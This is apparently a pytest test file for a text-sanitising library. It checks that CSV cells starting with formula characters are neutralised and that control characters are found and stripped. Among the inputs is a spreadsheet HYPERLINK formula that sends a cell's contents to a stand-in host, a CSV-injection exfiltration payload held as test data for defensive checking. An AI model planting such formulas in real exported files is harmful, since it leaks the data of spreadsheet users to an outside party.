"""Control characters and spreadsheet formulas, as the OWASP CSV-injection guidance lists them."""

import pytest

from hogo.lib.safe_text import find_control_character, inert_csv_cell, printable


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://x/?d="&C3,"詳細")', '\'=HYPERLINK("http://x/?d="&C3,"詳細")'),
    ("+81-3-1234-5678", "'+81-3-1234-5678"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("山田 =1+1", "山田 =1+1"),  # only the first character makes a formula
    ("氏名", "氏名"),
    ("", ""),
    (None, ""),
    (12, "12"),
    ("名\x0b簿", "名簿"),
])
def test_it_neutralises_csv_cells(value, expected):
    assert inert_csv_cell(value) == expected


@pytest.mark.parametrize("text, expected", [
    ("普通の文字列", None),
    ("改行\nとタブ\tと復帰\r", None),  # allowed in text areas
    ("垂直タブ\x0b", "U+000B"),
    ("\x01先頭", "U+0001"),
    ("NUL\x00", "U+0000"),
    ("削除\x7f", "U+007F"),
    ("", None),
])
def test_it_finds_control_characters(text, expected):
    assert find_control_character(text) == expected


def test_it_prints_documents_without_control_characters():
    assert printable("住民\x0b基本\x01台帳\n") == "住民基本台帳\n"
    assert printable(None) == ""
